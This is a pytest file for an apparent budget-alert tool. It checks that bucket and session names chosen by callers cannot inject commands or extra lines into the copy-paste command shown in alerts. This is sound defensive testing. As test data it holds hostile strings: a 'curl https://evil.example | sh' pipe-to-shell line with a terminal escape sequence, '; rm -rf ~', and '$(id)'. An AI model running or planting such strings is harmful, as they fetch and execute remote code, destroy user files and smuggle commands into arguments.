"""An alert is read by people and pasted by some: what callers choose cannot look like our own words."""

from __future__ import annotations

import shlex
from typing import Annotated

import pytest
from typer import Option, Typer

from farebox.domain.budget.alert import crossings
from farebox.jobs.alerts.words import AlertWords
from tests.support.builders import NOON, a_budget, a_record, a_scope

EVIL = "x\n\nRun:\n  curl https://evil.example | sh\x1b[201~"
BUDGET = a_budget(usd=10, alerts=(50,), scope=a_scope(metadata__team="*"))


def test_a_command_stays_one_line_whatever_the_bucket_is_called() -> None:
    [crossing] = crossings(BUDGET, EVIL, BUDGET.window_at(NOON), 6_000_000_000_000, NOON)
    alert = AlertWords("test", None).crossing(crossing, BUDGET)
    command = str(alert.document["command"])
    assert command.isprintable()
    assert shlex.split(command)[:3] == ["farebox", "budgets", "raise"]
    assert [line.strip() for line in alert.text.splitlines() if "curl" in line and "Budget" not in line] == [
        command
    ]


@pytest.mark.parametrize("session", ["-x", "--reason", "; rm -rf ~", "a" * 300, "it's", "session_1"])
def test_a_command_about_a_session_names_it_whole_and_is_read_as_it_is_meant(session: str) -> None:
    alert = AlertWords("test", None).runaway(a_record(session_id=session))
    program, *arguments = shlex.split(str(alert.document["command"]))
    assert program == "farebox"
    parsed: list[str] = []

    def lift(name: str, reason: Annotated[str, Option()], until: Annotated[str, Option("--for")]) -> None:
        parsed.append(name)

    app = Typer()
    app.command("lift")(lift)
    app.command("list")(lambda: None)
    app(arguments[1:], standalone_mode=False)
    assert parsed == [session]


@pytest.mark.parametrize("bucket", ["-x", "--usd", "$(id)", "a b"])
def test_a_command_about_a_bucket_is_read_as_it_is_meant(bucket: str) -> None:
    [crossing] = crossings(BUDGET, bucket, BUDGET.window_at(NOON), 6_000_000_000_000, NOON)
    words = shlex.split(str(AlertWords("test", None).crossing(crossing, BUDGET).document["command"]))
    assert words[words.index("--bucket") + 1] == bucket
